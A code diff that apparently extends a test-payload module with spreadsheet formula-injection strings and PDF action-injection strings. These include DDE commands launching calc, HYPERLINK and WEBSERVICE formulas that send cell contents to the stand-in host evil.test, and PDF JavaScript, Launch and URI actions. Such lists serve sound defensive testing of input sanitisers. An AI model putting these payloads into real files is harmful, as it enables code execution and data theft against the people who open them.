@@ -34,3 +34,27 @@ const waysOut = [
 export const payloads: readonly string[] = scripts.flatMap((script) =>
   waysOut.map((out) => `${out}${script}`),
 );
+
+/** What a spreadsheet would reckon with, call or fetch. */
+export const formulas: readonly string[] = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.test/?"&A1,"Error: click")',
+  '=WEBSERVICE("https://evil.test/?"&A1)',
+  '@SUM(1+1)*cmd|calc!A0',
+  '+1+cmd|calc!A0',
+  '-1+cmd|calc!A0',
+  '  =1+1',
+  '\t=1+1',
+  '\uff1d1+1',
+  '"=1+1',
+  '",=1+1,"',
+  '\n=1+1',
+];
+
+/** What leaves a string in a PDF for an action of its own. */
+export const pdfActions: readonly string[] = [
+  ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
+  '> /AA << /O << /S /Launch /F (calc.exe) >> >> <',
+  'endstream endobj 1 0 obj << /S /URI /URI (https://evil.test) >> endobj',
+  '\\) /JS (app.alert(1)) \\',
+];
